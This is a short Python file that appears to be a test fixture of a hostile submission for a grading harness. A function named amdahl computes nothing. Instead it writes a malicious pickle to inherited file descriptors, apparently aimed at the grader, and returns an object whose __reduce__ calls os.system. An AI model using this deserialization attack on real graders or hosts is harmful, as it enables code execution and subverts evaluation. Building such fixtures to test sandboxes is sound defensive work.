"""What it returns, and what it writes to its keeper, runs a program in whoever opens it as a pickle."""
# points: 0


class Bomb(float):
    def __reduce__(self):
        import os

        return os.system, ("touch {outside}/opened",)


def amdahl(p, s):
    import os
    import pickle

    bomb = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try:
            os.write(fd, len(bomb).to_bytes(4, "big") + bomb)
        except OSError:
            pass
    return Bomb()
